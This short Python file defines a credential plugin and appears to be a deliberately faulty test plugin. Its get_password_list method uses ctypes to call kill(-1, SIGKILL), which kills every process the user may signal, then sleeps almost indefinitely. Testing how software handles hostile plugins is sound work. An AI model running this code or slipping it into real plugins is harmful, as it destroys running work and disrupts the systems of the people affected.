# Kills every process that it may, by C.
import ctypes
import signal
import time


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        ctypes.CDLL(None).kill(-1, signal.SIGKILL)
        time.sleep(1e9)

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
